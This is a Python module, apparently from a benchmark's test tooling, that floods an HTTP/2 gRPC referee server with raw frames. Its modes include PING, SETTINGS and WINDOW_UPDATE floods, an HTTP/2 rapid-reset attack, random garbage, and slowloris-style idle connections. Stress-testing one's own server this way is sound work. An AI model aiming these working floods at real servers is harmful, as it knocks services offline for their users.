"""Clients that flood a referee: `python -m damrak.benchmark.referee.flood KIND HOST PORT`.

They send no token, use only sockets, and reconnect as soon as they are disconnected.
"""

from __future__ import annotations

import os
import selectors
import socket
import sys
import time
from collections.abc import Callable
from typing import Final

CONNECTIONS: Final = 8
RETRY_SECONDS: Final = 1.0  # timeout of a connection attempt
PIECE: Final = 1 << 18  # bytes of repeated frames per write

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
END_HEADERS: Final = 4
PATH: Final = b"/damrak.v1.Table/Play"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def request_headers(stream: int, path: bytes = PATH, authorization: bytes = b"") -> bytes:
    """Return the HEADERS frame that opens a call, without dynamic compression."""
    literal = b"".join(
        b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in (
            (b":authority", b"flood"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
            (b"authorization", authorization),
        )
        if value
    )
    where = b"\x04" + bytes([len(path)]) + path
    return frame(HEADERS, END_HEADERS, stream, b"\x83\x86" + where + literal)


def _repeated(one: bytes) -> Callable[[int], bytes]:
    piece = one * (PIECE // len(one))
    return lambda _: piece


def _resets(turn: int) -> bytes:
    first = 1 + turn * 4000
    return b"".join(
        request_headers(stream) + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8]))
        for stream in range(first, first + 4000, 2)
    )


_OPEN: Final = PREFACE + frame(SETTINGS, 0, 0)
_NOTHING: Final = b""

# For each kind, the first data on a connection, and the data that is then sent repeatedly.
KINDS: Final[dict[str, tuple[bytes, Callable[[int], bytes] | None]]] = {
    "priority": (_OPEN, _repeated(frame(PRIORITY, 0, 1, bytes(4) + b"\x10"))),
    "window-update": (_OPEN, _repeated(frame(WINDOW_UPDATE, 0, 0, bytes([0, 0, 0, 1])))),
    "ping": (_OPEN, _repeated(frame(PING, 0, 0, bytes(8)))),
    "settings": (_OPEN, _repeated(frame(SETTINGS, 0, 0))),
    "data": (_OPEN + request_headers(1), _repeated(frame(DATA, 0, 1))),
    "reset": (_OPEN, _resets),
    "garbage": (os.urandom(PIECE), _repeated(os.urandom(PIECE))),
    "connect": (_NOTHING, None),  # disconnect at once
    "silent": (_NOTHING, lambda _: b""),  # stay connected, with more and more connections
}


class _Attacker:
    """One connection at a time, replaced when it is lost."""

    def __init__(self, kind: str, address: tuple[str, int], selector: selectors.BaseSelector):
        self._first, self._more = KINDS[kind]
        self._address = address
        self._selector = selector
        self._connect()

    def _connect(self) -> None:
        family = socket.AF_INET6 if ":" in self._address[0] else socket.AF_INET
        self._socket = socket.socket(family, socket.SOCK_STREAM)
        self._socket.setblocking(False)
        self._socket.connect_ex(self._address)
        self._turn = 0
        self._unsent = memoryview(self._first)
        self._is_open = False
        self._since = time.monotonic()
        self._selector.register(
            self._socket, selectors.EVENT_WRITE | selectors.EVENT_READ, self.act
        )

    def act(self, events: int) -> None:
        """Send and receive as much as possible without blocking."""
        try:
            if events & selectors.EVENT_READ and not self._socket.recv(1 << 16):
                raise ConnectionResetError
            if events & selectors.EVENT_WRITE:
                self._is_open = True
                self._send()
        except BlockingIOError:
            pass
        except OSError:
            self._again()

    def _send(self) -> None:
        if self._more is None:
            raise ConnectionResetError
        if not self._unsent:
            self._unsent = memoryview(self._more(self._turn))
            self._turn += 1
        if self._unsent:
            self._unsent = self._unsent[self._socket.send(self._unsent) :]
        else:  # the kind "silent"
            self._selector.modify(self._socket, selectors.EVENT_READ, self.act)

    def _again(self) -> None:
        self._selector.unregister(self._socket)
        self._socket.close()
        self._connect()

    def retry(self, now: float) -> None:
        """Abandon a connection attempt that takes too long."""
        if not self._is_open and now - self._since > RETRY_SECONDS:
            self._again()


def main() -> None:
    """Flood until the process is ended."""
    kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    selector = selectors.DefaultSelector()
    attackers = [_Attacker(kind, (host, port), selector) for _ in range(CONNECTIONS)]
    looked = time.monotonic()
    while True:
        for key, events in selector.select(0.1):
            key.data(events)
        now = time.monotonic()
        if now - looked > 0.1:
            looked = now
            for attacker in attackers:
                attacker.retry(now)
            if kind == "silent" and len(attackers) < 1500:
                attackers += [
                    _Attacker(kind, (host, port), selector) for _ in range(10 * CONNECTIONS)
                ]


if __name__ == "__main__":
    main()
